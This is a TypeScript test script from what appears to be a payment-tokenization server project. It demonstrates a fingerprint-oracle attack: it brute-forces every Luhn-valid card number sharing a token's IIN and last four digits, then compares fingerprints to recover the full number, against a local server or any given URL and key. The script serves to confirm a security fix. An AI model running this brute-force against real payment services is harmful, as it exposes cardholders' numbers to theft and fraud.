/**
 * The fingerprint oracle, run in full: what someone who saw one token object and holds the
 * publishable key can recover. It tokenizes every Luhn-valid number with the object's IIN and
 * last four digits (about 100,000 for a 16-digit card), 32 at a time, and compares fingerprints.
 * Prints how many requests and seconds it took, or why it could not start.
 *
 *   node --conditions=tessera-source --import tsx server/test/attacks/fingerprint-oracle.ts
 *   … fingerprint-oracle.ts http://127.0.0.1:4242 pk_test_…   (a server already running)
 *
 * By default it starts the built `server/dist/cli.js`; given a URL and a publishable key, it
 * attacks that server instead (an older release, say). Not part of `npm test`: before the fix
 * it sends about 55,000 requests.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { BUILT_CLI, spawnServe, stopChild } from '../../../scripts/serve-process.js';
import { luhnValid } from '../helpers/luhn.js';

const VICTIM = '5555555555554444';
const CONCURRENCY = 32;

/** Attacks the server at `url` with the publishable key `key`. */
async function attack(url: string, key: string): Promise<void> {
  const year = String(new Date().getUTCFullYear() + 2);
  const tokenize = async (number: string): Promise<Record<string, unknown>> => {
    const body = new URLSearchParams({
      'card[number]': number,
      'card[exp_month]': '12',
      'card[exp_year]': year,
    });
    const reply = await fetch(`${url}/v1/tokens`, {
      method: 'POST',
      headers: { authorization: `Bearer ${key}` },
      body,
    });
    return ((await reply.json()) as { card?: Record<string, unknown> }).card ?? {};
  };
  const seen = await tokenize(VICTIM);
  console.log(
    `${url}: the victim's token object shows iin=${JSON.stringify(seen.iin)}, last4=${JSON.stringify(seen.last4)}, fingerprint=${seen.fingerprint === undefined ? '(none)' : 'present'}`,
  );
  if (seen.fingerprint === undefined || typeof seen.iin !== 'string') {
    console.log(
      'The attack cannot start: a publishable key gets no fingerprint to compare (and no IIN). 0 requests.',
    );
    return;
  }
  const candidates: string[] = [];
  for (let middle = 0; middle < 1_000_000; middle++) {
    const number = `${seen.iin}${String(middle).padStart(6, '0')}${String(seen.last4)}`;
    if (luhnValid(number)) candidates.push(number);
  }
  const started = performance.now();
  let next = 0;
  let requests = 0;
  const result: { found: string | null } = { found: null };
  const worker = async (): Promise<void> => {
    while (result.found === null && next < candidates.length) {
      const candidate = candidates[next++] ?? '';
      const card = await tokenize(candidate);
      requests++;
      if (card.fingerprint === seen.fingerprint) result.found = candidate;
    }
  };
  await Promise.all(Array.from({ length: CONCURRENCY }, worker));
  const seconds = (performance.now() - started) / 1000;
  console.log(
    result.found === null
      ? `Not recovered: ${String(requests)} requests in ${seconds.toFixed(1)} s.`
      : `Recovered ${result.found} after ${String(requests)} requests in ${seconds.toFixed(1)} s (${String(candidates.length)} candidates).`,
  );
}

async function main(): Promise<void> {
  const [url, key] = process.argv.slice(2);
  if (url && key) {
    await attack(url, key);
    return;
  }
  const dir = mkdtempSync(join(tmpdir(), 'tessera-oracle-'));
  const server = await spawnServe({
    command: [BUILT_CLI],
    args: ['--dev', '--port', '0', '--db', join(dir, 'tessera.db'), '--log-level', 'warn'],
  });
  try {
    await attack(server.url, server.testKeys?.publishable_key ?? '');
  } finally {
    await stopChild(server.child);
    rmSync(dir, { recursive: true, force: true });
  }
}

await main();
